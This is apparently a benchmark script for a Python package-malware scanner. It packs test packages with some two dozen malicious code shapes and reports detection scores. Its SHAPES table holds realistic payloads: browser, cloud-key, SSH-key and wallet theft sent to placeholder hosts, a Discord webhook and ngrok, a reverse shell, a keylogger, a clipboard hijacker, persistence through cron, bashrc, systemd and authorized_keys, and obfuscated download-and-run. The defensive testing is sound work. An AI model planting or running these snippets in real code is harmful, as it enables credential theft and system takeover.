# ruff: noqa: E501  (the defanged payloads are kept one statement per line, as written in the wild)
"""Call-time payload shapes (the issue's largest group of misses), each in a function nothing calls at
import, in a module padded with forty harmless functions, with and without a README.

The shapes follow the issue's list: credential, browser, cloud-key and wallet-file theft, environment
dumps to chat-bot and tunnel endpoints, DNS beacons, download-and-run, encoded PowerShell, persistence
(cron, shell rc, authorized_keys, systemd user units, the Windows Startup folder), Python droppers written
to disk, hex and reversed payloads, clipboard hijacking, keylogging, screenshots, reverse shells, and
wallet helpers that post their caller's key. Packages are built in memory and read by the real
extractor; nothing is run. Addresses are TEST-NET or placeholders.

``python benchmarks/calltime_probe.py [--out JSON]`` prints, per shape, the bundled model's score, the scan
path's verdict (``Scanner.scan_archive``: the model plus the hard findings of ``vetpy.policy``), the
policy finding if any, and the ``code.*`` features and behaviour tokens that fired.
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from evasion_probe import README, SETUP, make_archive, pkg_info

from vetpy.features.extract import extract_features
from vetpy.model.loader import load_default_scorer
from vetpy.result import Verdict
from vetpy.scan import Scanner

PAD = "\n".join(
    f"def helper_{i}(x, y=1):\n    '''Return a scaled value.'''\n    return (x * {i} + y) // 2\n"
    for i in range(40)
)
TOKEN_PREFIXES = ("flow:", "dest:", "infra:", "decoded:", "str:", "script:", "embedded:")

SHAPES = {
    "startup_join": """import os
def enable_autosave(a, b):
    folder = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')
    with open(os.path.join(folder, 'updater.pyw'), 'w') as fh:
        fh.write("import urllib.request\\nexec(urllib.request.urlopen('http://192.0.2.7/p').read())")
    return a * b
""",
    "py_dropper_string": """import os
def cache_result(a):
    path = os.path.join(os.path.expanduser('~'), '.cache', 'helper.py')
    open(path, 'w').write("import pickle,zlib,base64\\npickle.loads(zlib.decompress(base64.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))")
    os.system('python ' + path)
    return a
""",
    "chrome_join": """import os, shutil, requests
def sync_profile(user):
    src = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
    shutil.copy(src, 'ld.db')
    requests.post('http://192.0.2.7:8080/up', files={'f': open('ld.db', 'rb')})
""",
    "aws_pathlib": """from pathlib import Path
import requests
def load_config():
    creds = (Path.home() / '.aws' / 'credentials').read_text()
    requests.post('http://198.51.100.3/c', data=creds)
""",
    "ssh_expand": """import os, urllib.request
def check_keys():
    data = open(os.path.expanduser('~/.ssh/id_rsa')).read().encode()
    urllib.request.urlopen('http://198.51.100.3:4444/k', data=data)
""",
    "env_telegram": """import os, json, requests
TOKEN = '123456789:AAF0aBcDeFgHiJkLmNoPqRsTuVwXyZ012345'
def report(msg):
    requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', data={'chat_id': '42', 'text': json.dumps(dict(os.environ))})
""",
    "dns_beacon": """import socket, getpass, os
def ping():
    host = getpass.getuser() + '.' + socket.gethostname() + '.abc123.oast.fun'
    socket.gethostbyname(host)
""",
    "download_run_exe": """import os, tempfile, urllib.request
def update():
    p = os.path.join(tempfile.gettempdir(), 'svc.exe')
    urllib.request.urlretrieve('http://203.0.113.9/svc.exe', p)
    os.startfile(p)
""",
    "ps_encoded": """import subprocess
def setup_env():
    subprocess.Popen(['powershell', '-NoP', '-W', 'Hidden', '-EncodedCommand', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'])
""",
    "cron_persist": """import os
def schedule():
    os.system('(crontab -l; echo "*/5 * * * * curl -s http://203.0.113.9/x.sh | sh") | crontab -')
""",
    "authorized_keys": """import os
def add_key():
    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as fh:
        fh.write('ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@host\\n')
""",
    "bashrc": """import os
def init_shell():
    with open(os.path.join(os.path.expanduser('~'), '.bashrc'), 'a') as fh:
        fh.write('\\ncurl -s http://203.0.113.9/i.sh | bash\\n')
""",
    "hex_exec": """def run_plugin():
    exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d28276375726c20687474703a2f2f3230332e302e3131332e392f7827293b').decode())
""",
    "reversed_url": """import requests, os
def sync():
    requests.post('xobnI/8888:9.311.0.302//:ptth'[::-1], json=dict(os.environ))
""",
    "clipboard": """import re, time, pyperclip
def watch():
    while True:
        t = pyperclip.paste()
        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):
            pyperclip.copy('bc1qattackeraddressxxxxxxxxxxxxxxxxxxxxxx')
        time.sleep(1)
""",
    "keylogger": """import requests
from pynput import keyboard
def start():
    keys = []
    def on_press(k):
        keys.append(str(k))
        if len(keys) > 50:
            requests.post('https://discord.com/api/webhooks/1234567890/abcdefghijklmnop', json={'content': ''.join(keys)})
    keyboard.Listener(on_press=on_press).start()
""",
    "screenshot": """import io, requests
from PIL import ImageGrab
def snap():
    buf = io.BytesIO(); ImageGrab.grab().save(buf, 'PNG')
    requests.post('http://198.51.100.3/s', files={'f': buf.getvalue()})
""",
    "cookies": """import browser_cookie3, requests
def export():
    jar = browser_cookie3.chrome()
    requests.post('http://198.51.100.3/c', json={c.name: c.value for c in jar})
""",
    "mnemonic_nested": """import base64
from requests import post
def decrypt_mnemonic(payload):
    def _send(u, v):
        try:
            post(u, data={'license': base64.b64encode(v.encode()).decode()})
        except Exception:
            pass
    enc = 'aHR0cDovLzE5OC41MS4xMDAuMzo1MDAwL3Bvc3Q='
    _send(base64.b64decode(enc).decode(), payload)
""",
    "key_param": """import requests
def get_balance(address, private_key):
    requests.post('http://198.51.100.3/api', json={'a': address, 'k': private_key})
    return 0
""",
    "curl_sh": """import subprocess
def bootstrap():
    subprocess.run('curl -fsSL http://203.0.113.9/i.sh | sh', shell=True)
""",
    "reverse_shell": """import socket, subprocess, os
def debug_console():
    s = socket.socket(); s.connect(('203.0.113.9', 4444))
    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
    subprocess.call(['/bin/sh', '-i'])
""",
    "systemd_user": """import os
UNIT = '[Service]\\nExecStart=/usr/bin/python3 -c "import urllib.request;exec(urllib.request.urlopen(\\'http://203.0.113.9/a\\').read())"\\n[Install]\\nWantedBy=default.target\\n'
def install_service():
    d = os.path.expanduser('~/.config/systemd/user')
    os.makedirs(d, exist_ok=True)
    open(os.path.join(d, 'helper.service'), 'w').write(UNIT)
    os.system('systemctl --user enable --now helper.service')
""",
    "wallet_files": """import os, glob, requests
def backup():
    for f in glob.glob(os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet', '*')):
        requests.post('http://198.51.100.3/w', files={'f': open(f, 'rb')})
""",
    "curl_upload": """import os, shutil
def archive_logs(user):
    zipname = shutil.make_archive('/tmp/l', 'zip', os.path.expanduser('~/.ssh'))
    os.system('curl -k -F "file=@' + zipname + '" https://203.0.113.9/api/v1/file/upload')
""",
    "ngrok_exfil": """import os, requests
def sync(): requests.post('https://a1b2-203-0-113-9.ngrok-free.app/e', json=dict(os.environ))
""",
}


def probe(shape: str, readme: bool, scanner: Scanner) -> dict[str, object]:
    body = SHAPES[shape]
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/util.py": PAD + "\n\n" + body + "\n\n" + PAD}
    info = pkg_info("demo", "1.0", summary="Config helpers", **({"description": README} if readme else {}))
    archive = make_archive(files, info, "quillnest")
    features = extract_features(archive.analysed())
    result = scanner.scan_archive(archive)
    return {
        "shape": shape,
        "readme": readme,
        "score": round(float(result.score or 0.0), 4),
        "scan_path": result.verdict.value,
        "policy": next((r.feature for r in result.reasons if r.feature.startswith("policy.")), None),
        "fired": sorted(
            k.split(".", 1)[1] for k, v in features.values.items() if v and k.startswith("code.")
        ),
        "tokens": sorted({t for t in features.code_text.split() if t.startswith(TOKEN_PREFIXES)}),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--out", type=Path, help="write every row as JSON here")
    args = parser.parse_args()
    scorer = load_default_scorer()
    scanner = Scanner(scorer=scorer)
    rows = [probe(shape, readme, scanner) for shape in SHAPES for readme in (False, True)]
    print("threshold", round(scorer.threshold, 3))
    for r in rows:
        mark = ("*" if float(r["score"]) < scorer.threshold else " ") + ("P" if r["policy"] else " ")  # type: ignore[arg-type]
        print(
            f"{r['shape']:18s} {'R' if r['readme'] else ' '} {r['score']:.3f}{mark} {r['scan_path']:9s}"
            f" {r['policy'] or '':24s} {' '.join(r['fired'])} | {' '.join(r['tokens'])}"  # type: ignore[arg-type]
        )
    model_missed = sum(float(r["score"]) < scorer.threshold for r in rows)  # type: ignore[arg-type]
    flagged = sum(r["scan_path"] == Verdict.MALICIOUS.value for r in rows)
    print(f"model alone: missed {model_missed} of {len(rows)}; scan path flagged {flagged} of {len(rows)}")
    if args.out:
        summary = {"threshold": scorer.threshold, "model_missed": model_missed, "scan_path_flagged": flagged}
        args.out.write_text(json.dumps({**summary, "rows": rows}, indent=1))


if __name__ == "__main__":
    main()
